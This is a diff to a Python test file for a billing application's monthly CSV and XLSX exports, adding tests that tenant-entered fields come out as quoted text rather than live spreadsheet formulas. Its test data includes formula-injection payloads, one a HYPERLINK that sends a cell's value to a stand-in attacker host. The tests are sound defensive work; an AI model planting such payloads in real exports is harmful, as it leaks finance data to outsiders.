@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 
 from billing import finance, selectors
 from billing.invoices import close_month, credit, issue, mark_paid
+from billing.invoicing import round_money
 from billing.models import BillingProfile, Invoice, InvoiceState
 from tests.billing.test_invoices import AFTER, november  # noqa: F401  (the fixture)
 from tests.factories import InvoiceFactory, TenantFactory
@@ -204,6 +205,61 @@ def test_the_month_exports_for_accounting_and_reads_back_to_the_invoices(kind, c
         ("CC-42", "PO-7", "에이크미")
     }
     assert finance_client.get(f"{MONTH}export/pdf/").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tX", "\rX"]
+
+
+@pytest.mark.parametrize(("legal_name", "cost_centre", "po_number"), [FORMULAS[:3], FORMULAS[3:]])
+def test_the_month_exports_hold_what_a_tenant_typed_as_text_never_as_a_formula(
+    legal_name, cost_centre, po_number, closed, finance_client
+):
+    acme, _globex = closed
+    typed = {"legal_name": legal_name, "cost_centre": cost_centre, "po_number": po_number}
+    BillingProfile.objects.create(tenant=acme, **typed)
+
+    table = list(csv.DictReader(io.StringIO(finance_client.get(f"{MONTH}export/csv/").content.decode())))
+    mine = [row for row in table if row["tenant"] == acme.slug]
+    assert mine and all(row[field] == f"'{value}" for row in mine for field, value in typed.items())
+
+    sheet = load_workbook(io.BytesIO(finance_client.get(f"{MONTH}export/xlsx/").content)).active
+    header = [cell.value for cell in sheet[1]]
+    lines = [row for row in sheet.iter_rows(min_row=2) if row[header.index("tenant")].value == acme.slug]
+    assert lines
+    for line in lines:
+        for field, value in typed.items():
+            cell = line[header.index(field)]
+            assert cell.data_type == "s" and cell.quotePrefix, (field, value)
+            assert cell.value == value.replace("\r", "\n")  # XML reads a lone CR as a line feed
+        amount = line[header.index("amount")].value or line[header.index("tax")].value
+        assert isinstance(amount, int | float) and line[header.index("amount")].data_type == "n"
+
+
+def test_a_control_character_a_tenant_typed_does_not_break_the_xlsx(closed, finance_client):
+    acme, _globex = closed
+    BillingProfile.objects.create(tenant=acme, legal_name="Acme\x01 Ltd")
+    answer = finance_client.get(f"{MONTH}export/xlsx/")
+    assert answer.status_code == 200
+    names = {row["legal_name"] for row in _month_rows(answer.content, "xlsx") if row["tenant"] == acme.slug}
+    assert names == {"Acme\ufffd Ltd"}  # XLSX cannot hold U+0001
+
+
+def test_a_negative_amount_stays_a_number_in_every_export(closed, finance_client):
+    acme, _globex = closed
+    invoice = Invoice.objects.get(tenant=acme)
+    line = invoice.lines.filter(kind="usage").first()
+    line.amount = -line.amount
+    line.save()
+    negative = round_money(line.amount, invoice.currency)
+
+    table = list(csv.DictReader(io.StringIO(finance_client.get(f"{MONTH}export/csv/").content.decode())))
+    assert str(negative) in {row["amount"] for row in table}  # as written, no quote before it
+
+    sheet = load_workbook(io.BytesIO(finance_client.get(f"{MONTH}export/xlsx/").content)).active
+    column = [cell.value for cell in sheet[1]].index("amount")
+    amounts = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "n" for cell in amounts if cell.value is not None)
+    assert Decimal(negative) in {Decimal(str(cell.value)) for cell in amounts if cell.value is not None}
 
 
 def test_the_chart_is_an_svg_of_the_last_twelve_months_that_runs_no_script(closed, finance_client):
